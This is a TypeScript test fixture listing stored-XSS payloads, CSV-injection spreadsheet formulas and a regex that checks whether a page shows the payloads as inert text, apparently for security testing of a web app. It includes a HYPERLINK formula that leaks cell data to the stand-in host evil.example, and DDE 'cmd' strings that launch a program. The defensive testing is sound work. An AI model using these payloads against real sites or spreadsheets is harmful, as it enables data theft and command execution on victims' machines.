/**
 * Stored-XSS payloads. Each one, if it ever ran, calls a tripwire the test page defines:
 * `xssHit(n)` (a binding that reports n), a setter trap on `window.__xss`, or `alert` (a dialog).
 *
 * Redaction reads `window.__xss` as a username (anything with an underscore is one), so in children's
 * answers those come out as `[handle]=1`; the `xssHit(n)` forms pass redaction untouched, which is
 * what makes the answers a real test. Officers' text and the sealed originals keep both.
 */
export const SCRIPT_PAYLOADS = [
  "<script>xssHit(1)</script>",
  '"><img src=x onerror=xssHit(2)>',
  "<svg onload=xssHit(3)>",
  "'><details open ontoggle=xssHit(4)>",
  "</textarea><script>xssHit(5)</script>",
  "</title><script>xssHit(6)</script>",
  '<iframe srcdoc="<script>parent.xssHit(7)</script>">',
  '<a href="javascript:xssHit(8)">click</a>',
  "javascript:xssHit(9)",
  "{{constructor.constructor('xssHit(10)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-literal payload, on purpose.
  "${xssHit(11)}",
  "<img src=x onerror=alert(12)>",
  '<noscript><p title="</noscript><img src=x onerror=xssHit(13)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=xssHit(14)>",
  "<script>window.__xss=1</script>",
  '"><img src=x onerror=window.__xss=1>',
  "<svg onload=window.__xss=1>",
] as const;

/** Spreadsheet formulas (CSV injection): harmless on a page, dangerous as the first thing in a cell. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

export const ALL_PAYLOADS = [...SCRIPT_PAYLOADS, ...FORMULA_PAYLOADS] as const;

/** The `xssHit(n)` payloads: the ones redaction must leave whole in children's answers. */
export const HIT_PAYLOADS = SCRIPT_PAYLOADS.filter((p) => p.includes("xssHit("));

/**
 * Payloads joined by spaces, starting at `offset` (so different fields lead with different ones),
 * as many as fit in `max` characters.
 */
export function payloadBundle(offset: number, max: number, from: readonly string[] = ALL_PAYLOADS): string {
  let text = "";
  for (let i = 0; i < from.length; i++) {
    const next = from[(offset + i) % from.length] as string;
    const joined = text ? `${text} ${next}` : next;
    if (joined.length > max) break;
    text = joined;
  }
  return text;
}

/** Whether a page's visible text shows a payload as characters (so it was inert, not dropped). */
export const SHOWS_PAYLOAD = /<script>|onerror=|onload=|xssHit\(|__xss|=HYPERLINK|ontoggle=/;
